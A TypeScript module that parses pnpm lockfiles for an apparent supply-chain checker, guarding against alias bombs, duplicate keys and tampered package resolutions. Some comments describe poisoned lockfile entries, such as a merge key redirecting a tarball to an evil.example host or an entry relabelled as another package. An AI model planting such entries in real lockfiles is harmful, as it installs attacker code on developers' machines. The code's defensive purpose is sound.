import { LineCounter } from 'yaml';
import { posix } from 'node:path';
import type {
  DraftEdge,
  DraftImporter,
  DraftLocalRef,
  DraftNode,
  EdgeKind,
  ParseOptions,
  ParsedLockfile,
} from '../types.js';
import { LockfileError, isRecord, str } from '../types.js';
import { lineOfFirst, yamlSectionKeyLines } from '../lines.js';
import { classifyResolved, isRuntimeRelease, onRegistryPath } from '../source.js';
import type { Source } from '../source.js';
import { pushAll } from '../../core/push-all.js';
import { pnpmBuildsDisabledBy } from './pnpm-builds.js';
import { platformsOf } from '../platforms.js';
import { stripPeers } from './pnpm-dep-path.js';
import { pnpmSettingMismatches, workspaceOverrides } from './pnpm-settings.js';
import { findYamlKeyProblem } from '../../core/yaml-key-problems.js';
import { parseShallowYaml } from '../../core/yaml-depth.js';
import { workspaceMatcher } from '../read.js';

/** The sources whose install scripts pnpm's build settings decide (pnpm-builds.ts). */
const BUILD_POLICY_SOURCES: ReadonlySet<string> = new Set(['registry', 'tarball', 'file']);
/**
 * pnpm writes no aliases (`@pnpm/lockfile.fs` dumps with js-yaml's `noRefs`), but reads them; allow a few, and
 * refuse the exponential expansion of an alias bomb (`yaml`'s `maxAliasCount` counts expanded nodes).
 */
const MAX_ALIAS_COUNT = 100;
/** `yaml` resolves each alias by scanning every anchor and alias before it: past this many, the file is refused. */
const MAX_ANCHORS = 1000;
const SECTIONS = ['packages', 'snapshots', 'importers'] as const;

const IMPORTER_FIELDS: readonly (readonly [string, EdgeKind])[] = [
  ['dependencies', 'prod'],
  ['optionalDependencies', 'optional'],
  ['devDependencies', 'dev'],
];

/**
 * pnpm-lock.yaml 5.x, 6.x and 9.x. Nodes are the `packages` entries (one per key; 5/6 keys carry peer suffixes,
 * 9 moves those to `snapshots`, whose dependencies are merged onto their package). Keys:
 * 5 `/name/1.0.0_peer@1`, 6 `/name@1.0.0(peer@1)`, 9 `name@1.0.0`.
 */
export function parsePnpm(file: string, text: string, options: ParseOptions = {}): ParsedLockfile {
  const data = loadPnpmYaml(file, text);
  const lines = yamlSectionKeyLines(text, SECTIONS);
  checkShape(file, text, data, lines);
  const formatVersion = String(str(data.lockfileVersion) ?? '');
  const major = Number.parseInt(formatVersion, 10);
  const pkgLines = lines.get('packages')!;
  const packages = isRecord(data.packages) ? data.packages : {};
  const snapshots = isRecord(data.snapshots) ? data.snapshots : {};
  // pnpm 9 reads the two sections as one (lockfile.fs `convertLockfileV9ToLockfileObject`: each `snapshots` key with
  // the `packages` entry of its peer-less id merged in), so a package no snapshot names is never installed.
  const v9 = major >= 9 && isRecord(data.snapshots);
  const snapshotted = v9 ? new Set(Object.keys(snapshots).map(stripPeers)) : undefined;
  const keys = Object.keys(packages).filter((k) => snapshotted === undefined || snapshotted.has(k));
  const index = new Map(keys.map((k, i) => [k, i]));
  // v9: snapshot key → package key by dropping the peer suffix.
  const snapIndex = new Map<string, number>();
  for (const s of Object.keys(snapshots)) {
    const i = index.get(stripPeers(s));
    if (i !== undefined) snapIndex.set(s, i);
  }
  const lookup = (name: string, ref: string): number | undefined => {
    if (ref.startsWith('link:')) return undefined; // a workspace: its own importer
    for (const k of [`/${name}/${ref}`, `/${name}@${ref}`, `${name}@${ref}`, ref]) {
      const hit = snapIndex.get(k) ?? index.get(k);
      if (hit !== undefined) return hit;
    }
    return undefined;
  };
  const depEdges = (entry: Record<string, unknown>): DraftEdge[] => {
    const edges: DraftEdge[] = [];
    for (const [field, kind] of IMPORTER_FIELDS) {
      if (!isRecord(entry[field])) continue;
      for (const [name, ref] of Object.entries(entry[field])) {
        const r = str(ref);
        if (r !== undefined) edges.push({ name, spec: r, kind, target: lookup(name, r) });
      }
    }
    return edges;
  };

  const extraEdges = new Map<number, DraftEdge[]>();
  for (const [s, i] of snapIndex) {
    const snap = snapshots[s];
    if (!isRecord(snap)) continue;
    // Many snapshots (peer variants) share one package: append in place, never copy (quadratic).
    const list = extraEdges.get(i) ?? [];
    extraEdges.set(i, pushAll(list, depEdges(snap)));
  }

  // `requiresBuild` (lockfile ≤ 6) is not read: pnpm wrote it for every optional dependency, whose tarball it never
  // downloaded, and inconsistently elsewhere (pnpm/pnpm#7707, #7577), and its build step (`buildModules`) runs
  // only the scripts the fetched manifest has. Like pnpm 9, whether a package runs scripts is the registry's answer.
  const root = options.manifests?.[''];
  const buildDisabled = pnpmBuildsDisabledBy(
    {
      lockfile: data,
      ...(root?.pnpm !== undefined ? { manifestPnpm: root.pnpm } : {}),
      ...(root?.packageManager !== undefined ? { packageManager: root.packageManager } : {}),
      ...(options.pnpmWorkspace !== undefined ? { workspace: options.pnpmWorkspace } : {}),
      ...(options.pnpmNpmrcAllBuilds === true ? { npmrcAllowsAllBuilds: true } : {}),
      ...(options.npmrcIgnoresScripts === true ? { npmrcIgnoresScripts: true } : {}),
      ...(options.pnpmNpmrcOnlyBuilt !== undefined ? { npmrcOnlyBuilt: options.pnpmNpmrcOnlyBuilt } : {}),
    },
    major,
  );
  const nodes: DraftNode[] = keys.map((key, i) => {
    const entry = isRecord(packages[key]) ? packages[key] : {};
    const parsedKey = parseKey(key, major);
    // pnpm fetches a package by its dependency path's name (lockfile.utils nameVerFromPkgSnapshot:
    // `dp.parse(depPath).name`; the entry's `name` only for a path that names none) and takes its `version` first.
    // A `left-pad@1.3.1` entry saying `name: evil` installed left-pad 1.3.1 with pnpm 9.15.9 (lockfile 9) and pnpm
    // 8 (lockfile 6, `/left-pad@1.3.1`). Lockfile 5 keys (not checked here) keep the entry's name first.
    const name = (major >= 6 && parsedKey.named ? parsedKey.name : undefined) ?? str(entry.name) ?? parsedKey.name;
    const version = str(entry.version) ?? parsedKey.version;
    const res = installedResolution(name, isRecord(entry.resolution) ? entry.resolution : {});
    const { source, resolved } = resolutionSource(res);
    const integrity = str(res.integrity);
    // pnpm's build step asks its build policy of every dependency it built, whatever its source: with pnpm 10.34.9
    // a `file:` tarball and a tarball URL with a postinstall were not built by default, pnpm 9.15.9 built both. Git
    // packages are left out: their `prepare` runs when they are fetched, not in that step. It asks with the
    // dependency path (pnpm-builds.ts `allowListMatcher`): the key, which names the package for lockfile 6+.
    const depPath = parsedKey.named ? `${parsedKey.name}@${parsedKey.version}` : `${name}@${version}`;
    const disabled = BUILD_POLICY_SOURCES.has(source) ? buildDisabled({ name, version, depPath }) : undefined;
    const platforms = platformsOf(entry);
    return {
      name,
      version,
      key,
      // A package a `<<` merge key brought in has no line of its own: the merge's line is where it is written.
      line: pkgLines.get(key) ?? pkgLines.get('<<') ?? 1,
      ...(resolved !== undefined ? { resolved } : {}),
      ...(integrity !== undefined ? { integrity } : {}),
      source,
      ...(disabled !== undefined ? { buildDisabled: disabled } : {}),
      ...(platforms !== undefined ? { platforms } : {}),
      ...(major < 9 ? { flags: { dev: entry.dev === true, optional: entry.optional === true, peer: false } } : {}),
      edges: dedupe(pushAll(depEdges(entry), extraEdges.get(i))),
    };
  });

  const importerData: Record<string, unknown> = isRecord(data.importers) ? data.importers : { '.': data };
  const importers: DraftImporter[] = [];
  const recorded = new Map<string, Map<string, string>>();
  for (const [rawPath, imp] of Object.entries(importerData)) {
    if (!isRecord(imp)) continue;
    const path = rawPath === '.' ? '' : rawPath.replace(/^\.\//, '');
    const declared: Record<string, string> = {};
    const refs = new Map<string, string>();
    const specifiers = isRecord(imp.specifiers) ? imp.specifiers : {};
    const edges: DraftEdge[] = [];
    for (const [field, kind] of IMPORTER_FIELDS) {
      if (!isRecord(imp[field])) continue;
      for (const [name, v] of Object.entries(imp[field])) {
        // 5.x: `name: ref` + `specifiers`; 6+/9: `name: { specifier, version }`.
        const ref = isRecord(v) ? str(v.version) : str(v);
        const spec = isRecord(v) ? str(v.specifier) : str(specifiers[name]);
        if (ref === undefined) continue;
        refs.set(name, ref);
        if (spec !== undefined && !(name in declared)) declared[name] = spec;
        edges.push({ name, spec: spec ?? ref, kind, target: lookup(name, ref) });
      }
    }
    recorded.set(path, refs);
    importers.push({ path, declared, edges });
  }
  nameAliases(nodes, importers);

  const missing = v9
    ? missingEntries(snapshots, snapIndex, lines.get('snapshots')!, importerData, lines.get('importers')!)
    : [];
  const localRefs = [
    ...importerLinks(text, importers, recorded, workspaceProjects(options.pnpmWorkspace)),
    ...packageLinks(text, nodes),
    ...patchFiles(text, data, configuredPatches(options)),
  ];
  const mismatches = pnpmSettingMismatches(data, text, options);
  const overrides = workspaceOverrides(options);
  return {
    kind: 'pnpm',
    formatVersion,
    nodes,
    importers,
    ...(localRefs.length > 0 ? { localRefs } : {}),
    ...(mismatches !== undefined && mismatches.length > 0 ? { pnpmSettingMismatches: mismatches } : {}),
    ...(missing.length > 0 ? { missingEntries: missing } : {}),
    ...(overrides !== undefined ? { workspaceOverrides: overrides } : {}),
    catalogRange: (name, spec) => {
      // `catalog:` is the default catalog (`catalogs.default`), `catalog:x` the one named x (@pnpm/catalogs.protocol-parser).
      const id = spec.slice('catalog:'.length).trim() || 'default';
      const catalogs = isRecord(data.catalogs) ? data.catalogs : {};
      const catalog = catalogs[id];
      const entry = isRecord(catalog) ? catalog[name] : undefined;
      return isRecord(entry) ? str(entry.specifier) : workspaceCatalogRange(options.pnpmWorkspace, id, name);
    },
    resolveDeclared: (importer, name) => {
      const ref = recorded.get(importer)?.get(name);
      if (ref === undefined) return undefined;
      return ref.startsWith('link:') ? 'unknown' : (lookup(name, ref) ?? 'unknown');
    },
  };
}

/**
 * What a pnpm 9 frozen install stops on, as pnpm 9.15.9 did on hand-made lockfiles: a snapshot whose package entry
 * is missing has no resolution (headless `lockfileToDepGraph` throws a TypeError), and a snapshot `dependencies`
 * entry whose dependency path (`dp.refToRelative`) no snapshot has is ERR_PNPM_LOCKFILE_MISSING_DEPENDENCY ("Broken
 * lockfile"), as is an importer dependency no snapshot has. `optionalDependencies` are left out: pnpm may skip
 * those. One entry per missing dependency path.
 */
function missingEntries(
  snapshots: Record<string, unknown>,
  snapIndex: ReadonlyMap<string, number>,
  snapLines: ReadonlyMap<string, number>,
  importers: Record<string, unknown>,
  importerLines: ReadonlyMap<string, number>,
): { key: string; line: number }[] {
  const out = new Map<string, number>();
  // An importer's dependency with no snapshot: the same "Broken lockfile" (pnpm 9.15.9, hand-made lockfile).
  for (const [path, imp] of Object.entries(importers)) {
    for (const field of ['dependencies', 'devDependencies'] as const) {
      const deps = isRecord(imp) && isRecord(imp[field]) ? imp[field] : {};
      for (const [name, v] of Object.entries(deps)) {
        const ref = isRecord(v) ? str(v.version) : undefined;
        const dep = ref !== undefined ? refToRelative(ref, name) : undefined;
        if (dep !== undefined && !(dep in snapshots) && !out.has(dep)) out.set(dep, importerLines.get(path) ?? 1);
      }
    }
  }
  for (const s of Object.keys(snapshots)) {
    const line = snapLines.get(s) ?? 1;
    if (!snapIndex.has(s) && !out.has(s)) out.set(s, line);
    const snap = snapshots[s];
    const deps = isRecord(snap) && isRecord(snap.dependencies) ? snap.dependencies : {};
    for (const [name, ref] of Object.entries(deps)) {
      const path = typeof ref === 'string' ? refToRelative(ref, name) : undefined;
      if (path !== undefined && !(path in snapshots) && !out.has(path)) out.set(path, line);
    }
  }
  return [...out].map(([key, line]) => ({ key, line }));
}

/** @pnpm/dependency-path `refToRelative` (lockfile 9): the dependency path a `name: ref` entry points at. */
function refToRelative(ref: string, name: string): string | undefined {
  if (ref.startsWith('link:')) return undefined;
  if (ref.startsWith('@')) return ref;
  const at = ref.indexOf('@');
  if (at === -1) return `${name}@${ref}`;
  const colon = ref.indexOf(':');
  const bracket = ref.indexOf('(');
  return (colon === -1 || at < colon) && (bracket === -1 || at < bracket) ? ref : `${name}@${ref}`;
}

/**
 * pnpm records an alias only on the edge (`x: { specifier: npm:real@1, version: real@1.0.0 }`; 5.x `x: /real/1.0.0`,
 * and the same in a package's dependencies) and keys the package by its real name; it links the package into
 * `node_modules/x` (`@pnpm/headless` symlinks each direct dependency under its alias). One package may be reached
 * under several names; the first edge naming it otherwise than its own name (importers first) sets its `alias`.
 */
function nameAliases(nodes: DraftNode[], importers: readonly DraftImporter[]): void {
  const aliasOf = new Map<number, string>();
  const note = (e: DraftEdge) => {
    if (e.target !== undefined && !aliasOf.has(e.target) && e.name !== nodes[e.target]?.name)
      aliasOf.set(e.target, e.name);
  };
  for (const imp of importers) imp.edges.forEach(note);
  for (const n of nodes) n.edges.forEach(note);
  for (const [i, alias] of aliasOf) nodes[i] = { ...nodes[i]!, alias };
}

/**
 * The YAML as pnpm reads it (`@pnpm/lockfile.fs` `_read`, js-yaml `load`): a duplicate key is an error (js-yaml's
 * "duplicated mapping key"; pnpm says the lockfile is broken); aliases are shared, and past MAX_ALIAS_COUNT
 * expansions the file is refused as an alias bomb. `yaml`'s own duplicate check is quadratic per mapping, so it is
 * off and findYamlKeyProblem does it in linear time. `load` uses js-yaml's DEFAULT_SCHEMA, which reads `<<` as a
 * merge key (loader `storeMappingPair` → `mergeMappings`: the source's keys are copied in unless the mapping writes
 * them): `resolution: {integrity: …, <<: {tarball: https://evil.example/…}}` downloads from that host, so the merge
 * is applied here too, never read as a package or field named `<<`.
 */
function loadPnpmYaml(file: string, text: string): Record<string, unknown> {
  const lineCounter = new LineCounter();
  const doc = parseShallowYaml(text, {
    schema: 'core',
    merge: true,
    prettyErrors: true,
    uniqueKeys: false,
    lineCounter,
  });
  const first = doc.errors[0];
  if (first !== undefined) {
    const line = first.linePos?.[0].line;
    const reason = first.message.split('\n')[0] ?? 'not valid YAML';
    throw new LockfileError('LOCKFILE_SYNTAX', file, `not a valid pnpm lockfile: ${reason}`, line, { cause: first });
  }
  const problem = findYamlKeyProblem(doc, MAX_ANCHORS);
  if (problem !== undefined) {
    const line = lineCounter.linePos(problem.offset).line;
    if (problem.kind === 'duplicate-key')
      throw new LockfileError(
        'LOCKFILE_SYNTAX',
        file,
        `not a valid pnpm lockfile: duplicated mapping key ${JSON.stringify(clip(problem.key))}; pnpm refuses it`,
        line,
      );
    if (problem.kind === 'bad-merge')
      throw new LockfileError(
        'LOCKFILE_SYNTAX',
        file,
        'not a valid pnpm lockfile: a YAML merge key (<<) whose value is not a mapping; pnpm refuses it',
        line,
      );
    throw new LockfileError(
      'LOCKFILE_SHAPE',
      file,
      `has more than ${problem.limit} YAML anchors and aliases; pnpm never writes them`,
      line,
    );
  }
  let data: unknown;
  try {
    data = doc.toJS({ maxAliasCount: MAX_ALIAS_COUNT });
  } catch (err) {
    if (!(err instanceof ReferenceError)) throw err;
    throw new LockfileError(
      'LOCKFILE_SHAPE',
      file,
      `expands YAML aliases past ${MAX_ALIAS_COUNT} nodes (an alias bomb); pnpm never writes aliases`,
      aliasLine(text),
      { cause: err },
    );
  }
  if (!isRecord(data) || data.lockfileVersion === undefined)
    throw new LockfileError('LOCKFILE_SHAPE', file, 'pnpm-lock.yaml without lockfileVersion', 1);
  return data;
}

/** Sections and entries of the wrong type would read as "no packages": a lockfile that checks nothing. */
function checkShape(
  file: string,
  text: string,
  data: Record<string, unknown>,
  lines: ReadonlyMap<string, ReadonlyMap<string, number>>,
): void {
  const version = str(data.lockfileVersion) ?? '';
  if (!/^\d+(\.\d+)?$/.test(version))
    throw new LockfileError('LOCKFILE_SHAPE', file, `lockfileVersion ${JSON.stringify(version)} is not a number`, 1);
  for (const section of SECTIONS) {
    const value = data[section];
    if (value === undefined || value === null) continue;
    if (!isRecord(value))
      throw new LockfileError('LOCKFILE_SHAPE', file, `${section} is not a map`, sectionLine(text, section));
    if (section === 'importers') continue;
    for (const [key, entry] of Object.entries(value)) {
      if (!isRecord(entry))
        throw new LockfileError(
          'LOCKFILE_SHAPE',
          file,
          `${section} entry ${JSON.stringify(key.slice(0, 200))} is not a map`,
          lines.get(section)?.get(key),
        );
    }
  }
}

function sectionLine(text: string, section: string): number | undefined {
  const at = text.search(new RegExp(`^${section}:`, 'm'));
  return at < 0 ? undefined : text.slice(0, at).split('\n').length;
}

/** A key quoted in a message: a hostile file's keys can be megabytes long. */
function clip(key: string): string {
  return key.length > 100 ? `${key.slice(0, 100)}…` : key;
}

function aliasLine(text: string): number | undefined {
  const at = text.search(/[&*][^\s]/);
  return at < 0 ? undefined : text.slice(0, at).split('\n').length;
}

/**
 * A `link:` among a package's (lockfile 9: its snapshot's) dependencies: pnpm links that folder into the package's
 * `node_modules`, resolved against the lockfile's folder (headless `lockfileToDepGraph` → `getChildrenPaths` with the
 * importer id `.`: `path.resolve(lockfileDir, '.', ref.slice(5))`), and the package's `require` reads it. pnpm
 * writes one for a workspace package an `overrides` value links; one outside the repository is CPD017. One entry per
 * distinct ref.
 */
function packageLinks(text: string, nodes: readonly DraftNode[]): DraftLocalRef[] {
  const out: DraftLocalRef[] = [];
  const seen = new Set<string>();
  for (const node of nodes)
    for (const e of node.edges) {
      if (!e.spec.startsWith('link:') || seen.has(e.spec)) continue;
      seen.add(e.spec);
      out.push({
        kind: 'link',
        name: e.name,
        path: e.spec.slice(5),
        line: lineOfFirst(text, `${e.name}: ${e.spec}`, e.spec),
      });
    }
  return out;
}

/**
 * The folders pnpm takes as the workspace's projects: the root and what pnpm-workspace.yaml `packages` lists
 * (@pnpm/workspace.find-packages reads the globs from there, not from the lockfile's `importers`).
 */
function workspaceProjects(settings: Readonly<Record<string, unknown>> | undefined): (folder: string) => boolean {
  const globs = Array.isArray(settings?.packages) ? settings.packages.filter((g) => typeof g === 'string') : [];
  const listed = workspaceMatcher(globs);
  return (folder) => folder === '.' || folder === '' || listed(folder);
}

/**
 * Importer `link:` versions are relative to the importer's folder (pnpm `resolveFromLocal` / `link:` specs, e.g. an
 * `overrides` value `link:../x`); they become lockfile-relative here. Workspace links stay inside; CPD017 judges.
 */
function importerLinks(
  text: string,
  importers: readonly DraftImporter[],
  recorded: ReadonlyMap<string, ReadonlyMap<string, string>>,
  isProject: (folder: string) => boolean,
): DraftLocalRef[] {
  const out: DraftLocalRef[] = [];
  for (const imp of importers) {
    for (const [name, ref] of recorded.get(imp.path) ?? []) {
      if (!ref.startsWith('link:')) continue;
      const target = ref.slice(5);
      const path = /^([a-z]:)?[\\/]/i.test(target) ? target : posix.join(imp.path === '' ? '.' : imp.path, target);
      out.push({
        kind: 'link',
        name,
        path,
        line: lineOfFirst(text, `version: ${ref}`, `${name}: ${ref}`, ref),
        importer: imp.path,
        ...(isProject(posix.normalize(path)) ? {} : { notWorkspace: true as const }),
      });
    }
  }
  return out;
}

/**
 * `patchedDependencies` (lockfile 5.4+): `name@version: { hash, path }` with the patch file relative to the lockfile's
 * folder (pnpm reads it from there at install: `@pnpm/patching` `applyPatchToDir`). pnpm 10 writes the hash only.
 */
function patchFiles(text: string, data: Record<string, unknown>, configured: Record<string, unknown>): DraftLocalRef[] {
  if (!isRecord(data.patchedDependencies)) return [];
  const out: DraftLocalRef[] = [];
  for (const [name, v] of Object.entries(data.patchedDependencies)) {
    const path = isRecord(v) ? str(v.path) : undefined;
    const locked = isRecord(v) ? str(v.hash) : str(v);
    const hash = locked !== undefined ? { hash: locked } : {};
    if (path !== undefined) out.push({ kind: 'patch', name, path, line: lineOfFirst(text, path), ...hash });
    else {
      // pnpm 10 locks the hash only; the file is where the config names it (pnpm-workspace.yaml, else the root
      // package.json's `pnpm.patchedDependencies`), relative to the same folder.
      const from = str(configured[name]);
      if (from !== undefined)
        out.push({ kind: 'patch', name, path: from, line: lineOfFirst(text, `${name}:`, name), ...hash });
    }
  }
  return out;
}

/** `patchedDependencies` as pnpm's config reads it: pnpm-workspace.yaml first, then package.json `pnpm`. */
function configuredPatches(options: ParseOptions): Record<string, unknown> {
  const ws = options.pnpmWorkspace?.patchedDependencies;
  if (isRecord(ws)) return ws;
  const pnpm = options.manifests?.['']?.pnpm;
  return isRecord(pnpm) && isRecord(pnpm.patchedDependencies) ? pnpm.patchedDependencies : {};
}

/** The name and version a key spells; `named` when pnpm's dependency-path `parse` reads a name from it (6+: a
 * `name@` before the version). */
function parseKey(key: string, major: number): { name: string; version: string; named: boolean } {
  const k = key.startsWith('/') ? key.slice(1) : key;
  if (major < 6) {
    const parts = k.split('/');
    const scoped = parts[0]?.startsWith('@') === true;
    const name = scoped ? `${parts[0]}/${parts[1] ?? ''}` : (parts[0] ?? k);
    const rest = parts[scoped ? 2 : 1] ?? '';
    return { name, version: rest.split('_')[0] ?? rest, named: false };
  }
  const plain = stripPeers(k);
  // The first `@` after a scope's leading one ends the name, as pnpm's dependency-path `parse` reads it: a git or
  // tarball version (`git+ssh://git@github.com/…`) holds more `@`s, and a package name never does.
  const at = plain.indexOf('@', 1);
  return at > 0
    ? { name: plain.slice(0, at), version: plain.slice(at + 1), named: true }
    : { name: plain, version: '', named: false };
}

/**
 * The range pnpm-workspace.yaml's catalog `id` gives `name` (`catalog` is the default catalog, `catalogs.<id>` the
 * others: @pnpm/catalogs.config): what pnpm resolves a `catalog:` spec with when the lockfile records no `catalogs`
 * entry for it (pnpm 9 does not hold a lockfile to config entries it lacks, pnpm-settings.ts `catalogMismatch`).
 */
function workspaceCatalogRange(
  ws: Readonly<Record<string, unknown>> | undefined,
  id: string,
  name: string,
): string | undefined {
  if (ws === undefined) return undefined;
  const catalog =
    id === 'default' && isRecord(ws.catalog) ? ws.catalog : isRecord(ws.catalogs) ? ws.catalogs[id] : undefined;
  return isRecord(catalog) ? str(catalog[name]) : undefined;
}

/**
 * What pnpm fetches for a `resolution` (`pkgSnapshotToResolution`, @pnpm/lockfile.utils): a `type`d, `file:` or
 * git-hosted one as written; any other `tarball` through `new URL(tarball, registry + '/')` against the package's
 * registry, so a tarball without a scheme is a download from the registry at that path ('registry';
 * checks/sources.ts reads the package it names there). With pnpm 9.15.9 and a loopback registry, `tarball:
 * evil/-/evil-1.0.0.tgz` on left-pad installed evil as left-pad.
 */
function resolutionSource(res: Record<string, unknown>): { source: Source; resolved?: string } {
  const type = str(res.type);
  if (type === 'directory') return { source: 'file', resolved: `file:${str(res.directory) ?? ''}` };
  // A runtime's archive (BinaryResolution): fetched from its `url` and checked against its `integrity`
  // (@pnpm/fetching.binary-fetcher `createBinaryFetcher`: fetchFromRemoteTarball for `archive: tarball`,
  // downloadAndUnpackZip for `zip`), never from the registry.
  if (type === 'binary') {
    // Whatever the URL looks like (a registry's layout, a git host's archive), the binary fetcher downloads it as is.
    const url = str(res.url);
    return url ? { source: 'tarball', resolved: url } : { source: 'tarball' };
  }
  // No variant pnpm could read: a download from nowhere the lockfile pins (CPD008 says so), not a registry package.
  if (type === 'variations') return { source: 'tarball' };
  // Only `type` chooses the fetcher (@pnpm/pick-fetcher `pickFetcher`; lockfile.utils `pkgSnapshotToResolution`
  // passes a typed resolution through as written): without it a `repo` and `commit` are ignored and pnpm downloads
  // the `tarball`, or the registry's tarball of the entry's name and version.
  if (type === 'git') {
    return { source: 'git', resolved: `git+${str(res.repo) ?? ''}#${str(res.commit) ?? ''}` };
  }
  const tarball = str(res.tarball);
  if (tarball !== undefined) {
    // A scheme-relative `//host/path` resolves to that host with the registry's scheme: another host, read as the
    // https URL it is on an https registry (with pnpm 9.15.9, `tarball: //127.0.0.1:4874/…` was fetched from that
    // port, not the registry's). An http registry is the finding of the configuration that names it.
    if (tarball.startsWith('//')) return resolutionSource({ ...res, tarball: `https:${tarball}` });
    const source = classifyResolved(tarball) ?? 'tarball';
    // `new URL(tarball, registry + '/')` (pkgSnapshotToResolution) takes a path, and `http(s):<path>` without `//`,
    // against the package's registry (source.ts onRegistryPath).
    const onRegistry = source === 'unknown' && onRegistryPath(tarball, 'pnpm');
    return { source: onRegistry ? 'registry' : source, resolved: tarball };
  }
  return { source: 'registry' };
}

/**
 * The resolution the checks judge for an entry. pnpm 10's runtimes (`node@runtime:22.0.0`, `bun@runtime:…`,
 * `deno@runtime:…`, from `devEngines.runtime`) are locked as `type: variations`: one `variants[].resolution` (a
 * BinaryResolution, @pnpm/resolver-base) per platform, of which pnpm installs the one whose `targets` match the
 * machine. Each is what some machine installs, so the judged one is the first that is not its runtime's own release
 * archive pinned by a digest (source.ts `isRuntimeRelease`: an edited URL or a dropped integrity), else the first.
 */
function installedResolution(name: string, res: Record<string, unknown>): Record<string, unknown> {
  if (str(res.type) !== 'variations') return res;
  const variants = (Array.isArray(res.variants) ? (res.variants as unknown[]) : [])
    .map((v) => (isRecord(v) && isRecord(v.resolution) ? v.resolution : undefined))
    .filter((r): r is Record<string, unknown> => r !== undefined && str(r.type) !== 'variations');
  const pinned = (r: Record<string, unknown>) =>
    isRuntimeRelease(name, str(r.url) ?? str(r.tarball) ?? '', str(r.integrity));
  return variants.find((r) => !pinned(r)) ?? variants[0] ?? res;
}

function dedupe(edges: DraftEdge[]): DraftEdge[] {
  const seen = new Set<string>();
  return edges.filter((e) => {
    const k = `${e.name}\0${e.target ?? ''}`;
    if (seen.has(k)) return false;
    seen.add(k);
    return true;
  });
}
